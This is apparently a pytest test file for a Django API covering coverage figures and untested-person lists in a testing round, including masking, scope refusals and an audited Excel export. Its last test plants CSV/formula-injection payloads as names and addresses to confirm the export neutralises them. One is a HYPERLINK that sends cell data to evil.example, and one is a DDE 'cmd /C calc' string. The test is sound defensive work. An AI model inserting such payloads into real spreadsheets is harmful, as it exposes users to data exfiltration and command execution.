"""Coverage API: figures, hours, untested list (masked, keyset) and the audited export."""

from __future__ import annotations

import io
from typing import Any

import pytest
from openpyxl import load_workbook

from fangkong.accounts.models import AuditEvent
from fangkong.testkit.worlds.coverage import EXPECTED, EXPECTED_TOWNS, NAMES, build_world

pytestmark = pytest.mark.django_db

BASE = "/api/testing/rounds"


@pytest.fixture
def world(tree: Any, make_user: Any) -> Any:
    return build_world(tree, make_user)


def _get(client: Any, user: Any, url: str) -> Any:
    client.force_login(user)
    return client.get(url)


def _figures(counts: dict[str, Any]) -> dict[str, int]:
    return {k: v for k, v in counts.items() if k != "percent"}


def test_coverage_by_town_and_by_community(client: Any, world: Any) -> None:
    rid = world.round.pk
    by_town = _get(client, world.users["command"], f"{BASE}/{rid}/coverage").json()
    by_community = _get(
        client, world.users["command"], f"{BASE}/{rid}/coverage?by=community"
    ).json()

    assert by_town["round_id"] == rid and by_town["by"] == "town"
    assert {r["path"]: _figures(r["counts"]) for r in by_town["rows"]} == EXPECTED_TOWNS
    assert {r["path"]: _figures(r["counts"]) for r in by_community["rows"]} == EXPECTED
    assert by_town["totals"]["target"] == 13
    assert by_town["totals"]["percent"] == round(100 * 6 / 13, 1)


def test_coverage_within_a_town(client: Any, world: Any) -> None:
    url = f"{BASE}/{world.round.pk}/coverage?by=community&within=330483102"
    body = _get(client, world.users["town_a"], url).json()

    assert [r["path"] for r in body["rows"]] == ["330483102001", "330483102002"]


def test_community_worker_gets_only_her_community(client: Any, world: Any) -> None:
    body = _get(
        client, world.users["worker_b"], f"{BASE}/{world.round.pk}/coverage?by=community"
    ).json()

    assert [r["path"] for r in body["rows"]] == ["330483101001"]
    assert body["totals"]["target"] == 4


def test_coverage_refusals(client: Any, world: Any) -> None:
    rid = world.round.pk
    denied = _get(client, world.users["sampler"], f"{BASE}/{rid}/coverage")
    assert denied.status_code == 403 and denied.json()["code"] == "permission_denied"
    other = _get(client, world.users["town_a"], f"{BASE}/{rid}/coverage?within=330483101")
    assert other.status_code == 404
    missing = _get(client, world.users["command"], f"{BASE}/{rid + 999}/coverage")
    assert missing.status_code == 404
    bad = _get(client, world.users["command"], f"{BASE}/{rid}/coverage?by=grid")
    assert bad.status_code == 422


def test_hours(client: Any, world: Any) -> None:
    body = _get(client, world.users["command"], f"{BASE}/{world.round.pk}/coverage/hours").json()[
        "items"
    ]

    assert [h["samples"] for h in body] == [2, 3, 3, 1]
    assert body[-1]["cumulative"] == 9


def test_untested_list_is_masked_and_paged(client: Any, world: Any) -> None:
    url = f"{BASE}/{world.round.pk}/coverage/communities/330483102001/untested?size=2"
    first = _get(client, world.users["worker_a"], url).json()
    second = _get(client, world.users["worker_a"], f"{url}&cursor={first['next_cursor']}").json()

    items = first["items"] + second["items"]
    assert second["next_cursor"] is None
    assert {i["person_id"] for i in items} == {world.persons[k].pk for k in ("a4", "a5", "a6")}
    assert {i["name"] for i in items} == {"赵*华", "钱*", "孙*强"}
    assert all("*" in i["id_masked"] and "*" in i["phone_masked"] for i in items)
    assert not any(NAMES[k] in str(items) for k in ("a4", "a5", "a6"))


@pytest.mark.parametrize(
    ("user_key", "status"), [("worker_b", 404), ("town_b", 404), ("sampler", 403), ("lab", 403)]
)
def test_untested_list_refused_outside_scope_or_role(
    client: Any, world: Any, user_key: str, status: int
) -> None:
    url = f"{BASE}/{world.round.pk}/coverage/communities/330483102001/untested"
    response = _get(client, world.users[user_key], url)

    assert response.status_code == status
    assert "items" not in response.json()


def test_untested_list_bad_community_path(client: Any, world: Any) -> None:
    url = f"{BASE}/{world.round.pk}/coverage/communities/33048310/untested"
    response = _get(client, world.users["command"], url)

    assert response.status_code == 400
    assert response.json()["code"] == "community_path_invalid"


def test_export_masked_and_audited_revealed_needs_the_capability(client: Any, world: Any) -> None:
    url = f"{BASE}/{world.round.pk}/coverage/communities/330483101001/untested.xlsx"
    masked = _get(client, world.users["worker_b"], url)
    revealed = client.post(url, {"reveal": True}, content_type="application/json")

    ws = load_workbook(io.BytesIO(masked.content)).active
    names = {r[1] for r in ws.iter_rows(min_row=4, values_only=True)}
    assert names == {"褚*亮", "卫*梅"}
    ws = load_workbook(io.BytesIO(revealed.content)).active
    names = {r[1] for r in ws.iter_rows(min_row=4, values_only=True)}
    assert names == {NAMES["b3"], NAMES["b4"]}
    events = list(AuditEvent.objects.filter(action="coverage.untested_export").order_by("pk"))
    assert [e.detail["reveal"] for e in events] == [False, True]
    assert all(e.actor_username == "cov-worker-b" and e.detail["rows"] == 2 for e in events)


def test_a_get_asking_for_reveal_is_refused_and_reveal_is_read_from_the_post_body(
    client: Any, world: Any
) -> None:
    url = f"{BASE}/{world.round.pk}/coverage/communities/330483101001/untested.xlsx"
    client.force_login(world.users["worker_b"])

    # A GET that asks for reveal (a link from elsewhere carries the session) is a 400,
    # not a silently masked file, and leaves no audit row
    for query in ("?reveal=true", "?reveal=1", "?reveal=True"):
        response = client.get(url + query)
        assert (response.status_code, response.json()["code"]) == (400, "reveal_requires_post")
    assert not AuditEvent.objects.filter(action="coverage.untested_export").exists()

    # A POST reveals only when its body says so: a query parameter is not read
    by_query = client.post(f"{url}?reveal=true", {}, content_type="application/json")
    ws = load_workbook(io.BytesIO(by_query.content)).active
    assert {r[1] for r in ws.iter_rows(min_row=4, values_only=True)} == {"褚*亮", "卫*梅"}
    events = AuditEvent.objects.filter(action="coverage.untested_export")
    assert [e.detail["reveal"] for e in events] == [False]

    # Without the reveal right, or outside the jurisdiction, a reveal is refused
    for user_key, status in (("lab", 403), ("worker_a", 404)):
        client.force_login(world.users[user_key])
        refused = client.post(url, {"reveal": True}, content_type="application/json")
        assert refused.status_code == status, (user_key, refused.content)
    assert AuditEvent.objects.filter(action="coverage.untested_export").count() == 1


def test_export_of_another_community_is_not_found(client: Any, world: Any) -> None:
    url = f"{BASE}/{world.round.pk}/coverage/communities/330483102001/untested.xlsx"
    response = _get(client, world.users["worker_b"], url)

    assert response.status_code == 404
    assert not AuditEvent.objects.filter(action="coverage.untested_export").exists()


PLANTED = {
    "b3": '=HYPERLINK("http://evil.example/?"&C5&D5,"点击")',
    "b4": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_export_writes_no_formula_whatever_the_names(client: Any, world: Any) -> None:
    # Given names, an address, a community and a round name planted as formulas
    from fangkong.areas.models import Jurisdiction
    from fangkong.core.spreadsheet import formula_unescape
    from fangkong.people.models import Household, Person
    from fangkong.testing.models import Round

    for key, name in PLANTED.items():
        Person.objects.filter(pk=world.persons[key].pk).update(name=name)
    Household.objects.filter(pk=world.persons["b3"].household_id).update(
        address='+1+HYPERLINK("http://evil.example")'
    )
    Jurisdiction.objects.filter(path="330483101001").update(name="-2+3+cmd|' /C calc'!A0")
    Round.objects.filter(pk=world.round.pk).update(name="\t=1+1")
    url = f"{BASE}/{world.round.pk}/coverage/communities/330483101001/untested.xlsx"

    # When the list is exported masked and in clear
    masked = _get(client, world.users["worker_b"], url)
    revealed = client.post(url, {"reveal": True}, content_type="application/json")

    # Then no cell of either workbook is a formula, and the values read back unchanged
    for response in (masked, revealed):
        assert response.status_code == 200
        ws = load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in ws.iter_rows() for cell in row if cell.value is not None]
        assert all(cell.data_type != "f" for cell in cells)
        texts = [c.value for c in cells if isinstance(c.value, str)]
        assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
    ws = load_workbook(io.BytesIO(revealed.content)).active
    rows = list(ws.iter_rows(min_row=4, values_only=True))
    assert {formula_unescape(r[1]) for r in rows} == set(PLANTED.values())
    assert '+1+HYPERLINK("http://evil.example")' in {formula_unescape(r[4]) for r in rows}
    assert {formula_unescape(r[5]) for r in rows} == {"-2+3+cmd|' /C calc'!A0"}
